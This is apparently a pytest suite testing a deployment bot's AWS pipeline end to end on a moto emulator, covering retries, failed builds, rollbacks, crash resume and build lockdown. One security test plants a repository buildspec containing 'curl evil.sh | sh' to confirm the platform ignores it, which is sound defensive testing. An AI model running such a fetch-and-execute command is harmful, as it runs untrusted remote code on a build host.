"""run_pipeline end to end on an emulated AWS (a moto server), with failures injected into AwsSteps."""

from __future__ import annotations

import asyncio
import json
import time
from dataclasses import replace
from pathlib import Path
from typing import Any, Iterator

import botocore.retries.standard
import pytest
import requests
from botocore.awsrequest import AWSResponse

from bot.pipeline import DeployKind, DeployRequest, Stage, StageState, run_pipeline
from bot.pipeline.aws import BotoAwsSteps, BuildInfo, BuildStatus, Rollout, RolloutState, rollout_from_service
from bot.pipeline.awsclients import AwsClients, make_clients
from bot.pipeline.names import app_names
from bot.pipeline.sandbox import provision_sandbox, start_embedded_moto
from bot.pipeline.testing import FLASK_APP, GIT_TEST_ENV, RecordingProgress, commit_files, fast_deps

REGION = "us-east-1"
INSTALLATION = 4201
OWNER = "acme"
REPO = "web"
CREATING = ("Create", "Register", "Put", "StartBuild", "Tag")


@pytest.fixture(scope="module")
def moto_url() -> Iterator[str]:
    url, stop = start_embedded_moto()
    yield url
    stop()


@pytest.fixture(scope="module")
def module_clients(moto_url: str) -> AwsClients:
    # Building the clients loads a dozen service models (~1 s): once per module, reset per test.
    # Standard retries here; adaptive mode's client-side rate limiter would slow the throttling test.
    return make_clients(REGION, moto_url, max_attempts=4, retry_mode="standard", static_credentials=("testing", "testing"))


@pytest.fixture
def clients(moto_url: str, module_clients: AwsClients, monkeypatch: pytest.MonkeyPatch) -> Iterator[AwsClients]:
    requests.post(f"{moto_url}/moto-api/reset", timeout=10)
    for key, value in GIT_TEST_ENV.items():
        monkeypatch.setenv(key, value)
    # Retries on, but without botocore's seconds-long backoff sleeps.
    monkeypatch.setattr(botocore.retries.standard.ExponentialBackoff, "delay_amount", lambda self, context: 0.0)
    module_clients.calls.clear()
    yield module_clients
    for client, event, handler in INJECTED:
        client.meta.events.unregister(event, handler)
    INJECTED.clear()


@pytest.fixture
def platform(clients: AwsClients):
    return provision_sandbox(clients, REGION)


@pytest.fixture
def source(tmp_path: Path) -> tuple[Path, str]:
    repo = tmp_path / "github" / OWNER / REPO
    sha = commit_files(repo, FLASK_APP, "first")
    return repo, sha


def request_for(repo: Path, sha: str, deploy_id: str = "dep-1", ref: str = "refs/heads/main", **kw: Any) -> DeployRequest:
    return DeployRequest(
        deploy_id=deploy_id, installation_id=INSTALLATION, owner=OWNER, repo=REPO, sha=sha, ref=ref,
        default_branch="main", clone_url=f"file://{repo}", **kw,
    )


def creating_calls(calls: list[str]) -> list[str]:
    return [c for c in calls if c.split(".", 1)[1].startswith(CREATING)]


async def deploy(steps, platform, tmp_path, req, resume=None, **deps_kw):
    progress = RecordingProgress()
    deps = fast_deps(steps, platform, tmp_path / "repos", **deps_kw)
    result = await run_pipeline(req, deps, progress, resume)
    return result, progress


async def test_happy_path_deploys_the_sha_behind_a_host_rule(clients, platform, source, tmp_path):
    repo, sha = source
    steps = BotoAwsSteps(clients, platform, emulator=True)
    result, progress = await deploy(steps, platform, tmp_path, request_for(repo, sha))

    assert result.ok, result.failure
    names = app_names(INSTALLATION, OWNER, REPO)
    assert result.app_url == f"https://{names.app}.apps.example.test"
    assert result.image_uri.endswith(f"/easydeploy/{INSTALLATION}/{names.app}:{sha}")
    svc = clients.ecs.describe_services(cluster=platform.cluster_name, services=[names.service])["services"][0]
    assert svc["taskDefinition"] == result.task_definition_arn
    td = clients.ecs.describe_task_definition(taskDefinition=result.task_definition_arn)["taskDefinition"]
    container = td["containerDefinitions"][0]
    assert container["image"] == result.image_uri and container["image"].endswith(":" + sha)
    assert container["portMappings"][0]["containerPort"] == 8000
    assert {"name": "GREETING", "value": "hello"} in container["environment"]
    assert td["requiresCompatibilities"] == ["FARGATE"] and td["networkMode"] == "awsvpc"
    assert "http://localhost:8000/" in container["healthCheck"]["command"][1]
    rules = clients.elbv2.describe_rules(ListenerArn=platform.alb_listener_arn)["Rules"]
    hosts = [c["HostHeaderConfig"]["Values"] for r in rules for c in r.get("Conditions", []) if c["Field"] == "host-header"]
    assert [f"{names.app}.apps.example.test"] in hosts
    # Tags on what was created.
    repo_arn = clients.ecr.describe_repositories(repositoryNames=[names.ecr_repository])["repositories"][0]["repositoryArn"]
    tags = {t["Key"]: t["Value"] for t in clients.ecr.list_tags_for_resource(resourceArn=repo_arn)["tags"]}
    assert tags == {"easydeploy:owner": OWNER, "easydeploy:repo": REPO, "easydeploy:installation": str(INSTALLATION)}
    # Stages reported in order, all succeeded; Dockerfile was generated from the Flask template.
    assert [s["state"] for s in result.stages.values()] == ["succeeded"] * 4
    assert result.stages["source"]["outputs"]["generated_dockerfile"] == "flask"
    assert progress.states(Stage.BUILD) == ["pending", "running", "succeeded"]
    assert json.loads(json.dumps(result.stages)) == result.stages


async def test_deploying_the_same_sha_twice_creates_nothing_twice(clients, platform, source, tmp_path):
    repo, sha = source
    steps = BotoAwsSteps(clients, platform, emulator=True)
    first, _ = await deploy(steps, platform, tmp_path, request_for(repo, sha))
    before = len(clients.calls)
    second, _ = await deploy(steps, platform, tmp_path, request_for(repo, sha, "dep-2"))

    assert first.ok and second.ok
    again = clients.calls[before:]
    assert creating_calls(again) == [], again
    assert second.task_definition_arn == first.task_definition_arn
    names = app_names(INSTALLATION, OWNER, REPO)
    assert len(clients.ecs.list_task_definitions(familyPrefix=names.family)["taskDefinitionArns"]) == 1
    assert len(clients.codebuild.list_builds_for_project(projectName=names.codebuild_project)["ids"]) == 1


async def test_a_new_commit_registers_a_new_revision_and_updates_the_service(clients, platform, source, tmp_path):
    repo, sha = source
    steps = BotoAwsSteps(clients, platform, emulator=True)
    first, _ = await deploy(steps, platform, tmp_path, request_for(repo, sha))
    sha2 = commit_files(repo, {"app.py": FLASK_APP["app.py"] + "# v2\n"}, "second")
    second, _ = await deploy(steps, platform, tmp_path, request_for(repo, sha2, "dep-2"))

    assert second.ok, second.failure
    assert second.task_definition_arn.endswith(":2") and second.image_uri.endswith(sha2)
    names = app_names(INSTALLATION, OWNER, REPO)
    svc = clients.ecs.describe_services(cluster=platform.cluster_name, services=[names.service])["services"][0]
    assert svc["taskDefinition"] == second.task_definition_arn
    assert len(clients.elbv2.describe_rules(ListenerArn=platform.alb_listener_arn)["Rules"]) == 2  # ours + default


class FailingBuild(BotoAwsSteps):
    """CodeBuild that fails in the BUILD phase and writes a log, as AWS would."""

    async def get_build(self, build_id: str) -> BuildInfo:
        info = await super().get_build(build_id)
        return replace(info, status=BuildStatus.FAILED, phase="BUILD")


async def test_a_failed_build_fails_the_deploy_with_its_log_lines(clients, platform, source, tmp_path):
    repo, sha = source
    steps = FailingBuild(clients, platform)
    names = app_names(INSTALLATION, OWNER, REPO)
    real_start = steps._start_build

    def start_and_log(project, env, buildspec, key):
        info = real_start(project, env, buildspec, key)
        stream = info.build_id.split(":", 1)[1]
        clients.logs.create_log_stream(logGroupName=names.build_log_group, logStreamName=stream)
        now = int(time.time() * 1000)
        lines = ["Step 3/7 : RUN pip install -r requirements.txt", "ERROR: No matching distribution found for flask==99"]
        clients.logs.put_log_events(
            logGroupName=names.build_log_group, logStreamName=stream,
            logEvents=[{"timestamp": now + i, "message": m} for i, m in enumerate(lines)],
        )
        return info

    steps._start_build = start_and_log
    result, _ = await deploy(steps, platform, tmp_path, request_for(repo, sha))

    assert not result.ok
    assert result.failure.stage == Stage.BUILD
    assert "failed in phase BUILD" in result.failure.summary
    assert result.failure.log_lines[-1] == "ERROR: No matching distribution found for flask==99"
    assert result.stages["build"]["state"] == "failed" and result.stages["release"]["state"] == "cancelled"
    assert result.build_id and result.stages["build"]["outputs"]["build_id"] == result.build_id
    # A retry after the fix is not tripped up by anything the failed deploy left behind.
    retry, _ = await deploy(BotoAwsSteps(clients, platform, emulator=True), platform, tmp_path, request_for(repo, sha, "dep-2"))
    assert retry.ok, retry.failure


class RolledBack(BotoAwsSteps):
    """ECS as AWS reports a deployment that the circuit breaker rolled back."""

    async def get_rollout(self, names, task_definition_arn: str) -> Rollout:
        svc = await asyncio.to_thread(self._service_raw, names)
        previous = "arn:aws:ecs:us-east-1:123456789012:task-definition/previous:1"
        shaped = {
            "taskDefinition": previous,
            "deployments": [
                {"status": "PRIMARY", "taskDefinition": previous, "rolloutState": "IN_PROGRESS"},
                {
                    "status": "ACTIVE", "taskDefinition": task_definition_arn, "rolloutState": "FAILED", "failedTasks": 3,
                    "rolloutStateReason": "ECS deployment circuit breaker: tasks failed to start.",
                },
            ],
        }
        assert svc is not None
        return rollout_from_service(shaped, task_definition_arn)


async def test_a_rollout_the_circuit_breaker_rolls_back_fails_with_reasons(clients, platform, source, tmp_path):
    repo, sha = source
    names = app_names(INSTALLATION, OWNER, REPO)
    clients.logs.create_log_group(logGroupName=names.app_log_group)
    clients.logs.create_log_stream(logGroupName=names.app_log_group, logStreamName="app/app/abc")
    clients.logs.put_log_events(
        logGroupName=names.app_log_group, logStreamName="app/app/abc",
        logEvents=[{"timestamp": int(time.time() * 1000), "message": "ModuleNotFoundError: No module named 'flask'"}],
    )
    result, _ = await deploy(RolledBack(clients, platform), platform, tmp_path, request_for(repo, sha))

    assert not result.ok and result.failure.stage == Stage.RELEASE
    assert "circuit breaker" in result.failure.summary
    assert "ModuleNotFoundError: No module named 'flask'" in result.failure.log_lines
    assert "rolled back" in result.failure.what_to_do
    assert result.task_definition_arn  # the worker can record which revision failed


class StuckRollout(BotoAwsSteps):
    async def get_rollout(self, names, task_definition_arn: str) -> Rollout:
        return Rollout(RolloutState.IN_PROGRESS, "0/1 tasks running")


async def test_a_rollout_that_never_finishes_times_out(clients, platform, source, tmp_path):
    repo, sha = source
    result, _ = await deploy(StuckRollout(clients, platform), platform, tmp_path, request_for(repo, sha), rollout_timeout=0.1)
    assert not result.ok and "did not finish within" in result.failure.summary


INJECTED: list[tuple[Any, str, Any]] = []


def inject(client, operation: str, answers: list[tuple[int, str]]) -> list[int]:
    """Answer the next calls of an operation with HTTP errors (inside botocore's retry loop)."""
    sent: list[int] = []

    def before_send(request, **_):
        if not answers:
            return None
        status, body = answers.pop(0)
        sent.append(status)
        return AWSResponse(request.url, status, {"Content-Type": "application/x-amz-json-1.1"}, _Raw(body.encode()))

    event = f"before-send.*.{operation}"
    client.meta.events.register_first(event, before_send)
    INJECTED.append((client, event, before_send))
    return sent


class _Raw:
    def __init__(self, body: bytes):
        self.body = body

    def stream(self, **_):
        yield self.body


THROTTLE_JSON = '{"__type": "ThrottlingException", "message": "Rate exceeded"}'
THROTTLE_XML = (
    '<ErrorResponse><Error><Type>Sender</Type><Code>Throttling</Code><Message>Rate exceeded</Message></Error>'
    "<RequestId>1</RequestId></ErrorResponse>"
)


async def test_throttling_and_5xx_answers_are_retried(clients, platform, source, tmp_path):
    repo, sha = source
    throttled = inject(clients.iam, "GetRole", [(400, THROTTLE_XML), (400, THROTTLE_XML)])
    broken = inject(clients.codebuild, "StartBuild", [(500, '{"__type": "InternalFailure"}'), (503, "")])
    slow = inject(clients.ecs, "RegisterTaskDefinition", [(400, THROTTLE_JSON)])
    result, _ = await deploy(BotoAwsSteps(clients, platform, emulator=True), platform, tmp_path, request_for(repo, sha))

    assert result.ok, result.failure
    assert throttled == [400, 400] and broken == [500, 503] and slow == [400]
    assert len(clients.codebuild.list_builds_for_project(projectName=app_names(INSTALLATION, OWNER, REPO).codebuild_project)["ids"]) == 1


async def test_aws_errors_that_outlast_the_retries_fail_the_stage_cleanly(clients, platform, source, tmp_path):
    repo, sha = source
    sent = inject(clients.ecs, "CreateService", [(500, '{"__type": "InternalFailure"}')] * 4)
    result, _ = await deploy(BotoAwsSteps(clients, platform, emulator=True), platform, tmp_path, request_for(repo, sha))
    assert sent == [500] * 4, clients.calls
    assert not result.ok and result.failure.stage == Stage.RELEASE
    assert "CreateService" in result.failure.summary and "retry" in result.failure.what_to_do
    retry, _ = await deploy(BotoAwsSteps(clients, platform, emulator=True), platform, tmp_path, request_for(repo, sha, "dep-2"))
    assert retry.ok, retry.failure
    assert len(clients.ecs.list_task_definitions()["taskDefinitionArns"]) == 1


async def test_a_commit_that_cannot_be_fetched_fails_the_source_stage(clients, platform, source, tmp_path):
    repo, _ = source
    missing = "0123456789abcdef0123456789abcdef01234567"
    result, _ = await deploy(BotoAwsSteps(clients, platform, emulator=True), platform, tmp_path, request_for(repo, missing))
    assert not result.ok and result.failure.stage == Stage.SOURCE
    assert "0123456789ab could not be fetched" in result.failure.summary
    assert result.failure.log_lines
    assert result.stages["build"]["state"] == "cancelled"
    assert creating_calls(clients.calls[-10:]) == [] or "codebuild.StartBuild" not in clients.calls


async def test_an_invalid_config_fails_naming_the_key(clients, platform, source, tmp_path):
    repo, _ = source
    sha = commit_files(repo, {".easydeploy.yml": "port: 8000\nmemmory: 1024\n"}, "typo")
    result, _ = await deploy(BotoAwsSteps(clients, platform, emulator=True), platform, tmp_path, request_for(repo, sha))
    assert not result.ok and result.failure.stage == Stage.SOURCE
    assert "`memmory` is not a known key" in result.failure.summary
    assert "codebuild.StartBuild" not in clients.calls


async def test_config_comes_from_the_default_branch_not_the_pushed_branch(clients, platform, source, tmp_path):
    repo, _ = source
    feature = commit_files(repo, {".easydeploy.yml": "port: 9999\n"}, "sneaky", branch="feature")
    result, _ = await deploy(
        BotoAwsSteps(clients, platform, emulator=True), platform, tmp_path,
        request_for(repo, feature, ref="refs/heads/feature"),
    )
    assert result.ok, result.failure
    assert result.stages["source"]["outputs"]["config"]["port"] == 8000


class Crash(Exception):
    pass


class CrashAfter(BotoAwsSteps):
    """Simulates the worker dying right after a given step."""

    def __init__(self, *a, crash_in: str, **kw):
        super().__init__(*a, **kw)
        self.crash_in = crash_in
        self.started_builds = 0
        self.registered = 0

    async def start_build(self, *a, **kw):
        self.started_builds += 1
        return await super().start_build(*a, **kw)

    async def register_task_definition(self, *a, **kw):
        self.registered += 1
        return await super().register_task_definition(*a, **kw)

    async def get_build(self, build_id):
        if self.crash_in == "build":
            raise Crash()
        return await super().get_build(build_id)

    async def deploy_service(self, *a, **kw):
        if self.crash_in == "release":
            raise Crash()
        return await super().deploy_service(*a, **kw)


@pytest.mark.parametrize("crash_in", ["build", "release"])
async def test_resume_after_a_crash_does_not_redo_finished_work(clients, platform, source, tmp_path, crash_in):
    repo, sha = source
    steps = CrashAfter(clients, platform, emulator=True, crash_in=crash_in)
    progress = RecordingProgress()
    deps = fast_deps(steps, platform, tmp_path / "repos")
    with pytest.raises(Crash):
        await run_pipeline(request_for(repo, sha), deps, progress)
    saved = progress.updates[-1][1]  # what the worker persisted last
    assert saved[crash_in]["state"] == "running"

    steps.crash_in = ""
    result = await run_pipeline(request_for(repo, sha), deps, RecordingProgress(), resume=saved)

    assert result.ok, result.failure
    assert steps.started_builds == 1 and steps.registered == 1
    assert result.stages["identity"]["started_at"] == saved["identity"]["started_at"]


async def test_rollback_runs_the_previous_revision_again(clients, platform, source, tmp_path):
    repo, sha = source
    steps = BotoAwsSteps(clients, platform, emulator=True)
    first, _ = await deploy(steps, platform, tmp_path, request_for(repo, sha))
    sha2 = commit_files(repo, {"app.py": FLASK_APP["app.py"] + "# v2\n"}, "second")
    second, _ = await deploy(steps, platform, tmp_path, request_for(repo, sha2, "dep-2"))
    assert second.ok

    before = len(clients.calls)
    back, _ = await deploy(
        steps, platform, tmp_path,
        request_for(repo, sha, "dep-3", kind=DeployKind.ROLLBACK, rollback_task_definition=first.task_definition_arn),
    )
    assert back.ok, back.failure
    assert back.stages["source"]["state"] == back.stages["build"]["state"] == StageState.SKIPPED
    assert back.task_definition_arn == first.task_definition_arn
    names = app_names(INSTALLATION, OWNER, REPO)
    svc = clients.ecs.describe_services(cluster=platform.cluster_name, services=[names.service])["services"][0]
    assert svc["taskDefinition"] == first.task_definition_arn
    assert "ecs.RegisterTaskDefinition" not in clients.calls[before:]
    # Deploying the newer commit again after the rollback moves the service forward without a new revision.
    again, _ = await deploy(steps, platform, tmp_path, request_for(repo, sha2, "dep-4"))
    assert again.ok and again.task_definition_arn == second.task_definition_arn


async def test_a_pr_build_check_builds_without_releasing(clients, platform, source, tmp_path):
    repo, sha = source
    result, _ = await deploy(
        BotoAwsSteps(clients, platform, emulator=True), platform, tmp_path,
        request_for(repo, sha, kind=DeployKind.BUILD_ONLY, untrusted=True),
    )
    assert result.ok and result.stages["release"]["state"] == "skipped" and result.app_url is None
    assert "ecs.CreateService" not in clients.calls and result.image_uri


async def test_concurrent_first_deploys_get_distinct_rule_priorities(clients, platform, tmp_path):
    repos = []
    for name in ("alpha", "beta", "gamma"):
        path = tmp_path / "github" / OWNER / name
        repos.append((name, path, commit_files(path, FLASK_APP, "first")))
    steps = BotoAwsSteps(clients, platform, emulator=True)
    deps = fast_deps(steps, platform, tmp_path / "repos")
    # Force every app onto the same first-choice priority, as a hash collision would.
    import bot.pipeline.aws as aws_module

    original = aws_module._priority_start
    aws_module._priority_start = lambda app: 7
    try:
        results = await asyncio.gather(*[
            run_pipeline(
                DeployRequest(f"dep-{name}", INSTALLATION, OWNER, name, sha, "refs/heads/main", "main", f"file://{path}"),
                deps, RecordingProgress(),
            )
            for name, path, sha in repos
        ])
    finally:
        aws_module._priority_start = original
    assert all(r.ok for r in results), [r.failure for r in results]
    priorities = [r.stages["release"]["outputs"]["priority"] for r in results]
    assert len(set(priorities)) == 3


def test_rollout_state_from_aws_and_moto_shaped_services():
    new, old = "td/app:2", "td/app:1"
    in_progress = {"taskDefinition": new, "deployments": [
        {"status": "PRIMARY", "taskDefinition": new, "rolloutState": "IN_PROGRESS", "runningCount": 0, "desiredCount": 1},
        {"status": "ACTIVE", "taskDefinition": old, "rolloutState": "COMPLETED"},
    ]}
    assert rollout_from_service(in_progress, new).state == RolloutState.IN_PROGRESS
    done = {"taskDefinition": new, "deployments": [{"status": "PRIMARY", "taskDefinition": new, "rolloutState": "COMPLETED"}]}
    assert rollout_from_service(done, new).state == RolloutState.COMPLETED
    failed = {"taskDefinition": new, "deployments": [{"status": "PRIMARY", "taskDefinition": new, "rolloutState": "FAILED", "rolloutStateReason": "circuit breaker"}]}
    assert rollout_from_service(failed, new) == Rollout(RolloutState.FAILED, "circuit breaker")
    rolled_back = {"taskDefinition": old, "deployments": [{"status": "PRIMARY", "taskDefinition": old, "rolloutState": "COMPLETED"}]}
    assert rollout_from_service(rolled_back, new).state == RolloutState.FAILED
    # moto: update_service changes taskDefinition but keeps the original deployment record.
    moto_updated = {"taskDefinition": new, "deployments": [{"status": "PRIMARY", "taskDefinition": old, "rolloutState": "COMPLETED"}]}
    assert rollout_from_service(moto_updated, new).state == RolloutState.COMPLETED
    moto_created = {"taskDefinition": new, "deployments": [{"status": "PRIMARY", "taskDefinition": new, "rolloutState": "IN_PROGRESS", "failedTasks": 0}]}
    assert rollout_from_service(moto_created, new).state == RolloutState.IN_PROGRESS
    assert rollout_from_service(moto_created, new, emulator=True).state == RolloutState.COMPLETED


class RecordingBuilds(BotoAwsSteps):
    started: list[dict] = []

    async def start_build(self, project, env, buildspec, idempotency_key):
        self.started.append({"project": project, "env": env, "buildspec": buildspec})
        return await super().start_build(project, env, buildspec, idempotency_key)


async def test_the_build_uses_the_platform_buildspec_its_variables_and_a_locked_down_repository(clients, platform, source, tmp_path):
    repo, sha = source
    sha = commit_files(repo, {"buildspec.yml": "phases: {build: {commands: [curl evil.sh | sh]}}", ".easydeploy.yml": FLASK_APP[".easydeploy.yml"] + "root: .\n"}, "evil buildspec")
    steps = RecordingBuilds(clients, platform, emulator=True)
    steps.started = []
    create_service: list[dict] = []

    def record(params, **_):
        create_service.append(dict(params))

    clients.ecs.meta.events.register("before-parameter-build.ecs.CreateService", record)
    INJECTED.append((clients.ecs, "before-parameter-build.ecs.CreateService", record))
    result, _ = await deploy(steps, platform, tmp_path, request_for(repo, sha))
    assert result.ok, result.failure

    names = app_names(INSTALLATION, OWNER, REPO)
    [started] = steps.started
    assert started["buildspec"] == (Path(__file__).resolve().parents[2] / "buildspecs" / "buildspec.yml").read_text()
    env = started["env"]
    assert env["IMAGE_TAG"] == sha and env["IMAGE_URI"] == result.image_uri
    assert env["APP_DIR"] == f"/mnt/repos/{OWNER}/{REPO}" and env["DOCKERFILE"] == f"/mnt/repos/{OWNER}/{REPO}/Dockerfile"
    assert env["ARTIFACT_PREFIX"] == f"artifacts/{INSTALLATION}/{names.app}/{sha}/"
    assert "GREETING" not in env  # the app's env never reaches the build
    [project] = clients.codebuild.batch_get_projects(names=[names.codebuild_project])["projects"]
    assert project["environment"]["privilegedMode"] is True
    assert project["serviceRole"].endswith(f"role/easydeploy/tenants/ed-{INSTALLATION}-build")
    ecr_repo = clients.ecr.describe_repositories(repositoryNames=[names.ecr_repository])["repositories"][0]
    assert ecr_repo["imageTagMutability"] == "IMMUTABLE" and ecr_repo["imageScanningConfiguration"]["scanOnPush"]
    lifecycle = json.loads(clients.ecr.get_lifecycle_policy(repositoryName=names.ecr_repository)["lifecyclePolicyText"])
    assert lifecycle["rules"][0]["selection"]["countNumber"] == 20
    scaling = clients.autoscaling.describe_scalable_targets(ServiceNamespace="ecs")["ScalableTargets"]
    assert [(s["MinCapacity"], s["MaxCapacity"]) for s in scaling] == [(1, 2)]
    # moto does not echo the deployment configuration back, so check what was sent.
    [sent] = create_service
    assert sent["deploymentConfiguration"]["deploymentCircuitBreaker"] == {"enable": True, "rollback": True}
    assert sent["networkConfiguration"]["awsvpcConfiguration"]["subnets"] == platform.private_subnet_ids
    assert sent["networkConfiguration"]["awsvpcConfiguration"]["assignPublicIp"] == "DISABLED"
    assert sent["loadBalancers"][0]["targetGroupArn"] == result.stages["release"]["outputs"]["target_group_arn"]


async def test_resume_with_a_build_aws_no_longer_knows_starts_a_new_one(clients, platform, source, tmp_path):
    repo, sha = source
    steps = CrashAfter(clients, platform, emulator=True, crash_in="build")
    progress = RecordingProgress()
    deps = fast_deps(steps, platform, tmp_path / "repos")
    with pytest.raises(Crash):
        await run_pipeline(request_for(repo, sha), deps, progress)
    saved = progress.updates[-1][1]
    # The emulator restarted with the service: the build this deploy started is gone.
    saved["build"]["outputs"]["build_id"] = "ed-gone:00000000-0000-0000-0000-000000000000"
    steps.crash_in = ""
    result = await run_pipeline(request_for(repo, sha), deps, RecordingProgress(), resume=saved)
    assert result.ok, result.failure  # not "the build fault in phase build not found"
    assert result.stages["build"]["state"] == "succeeded"
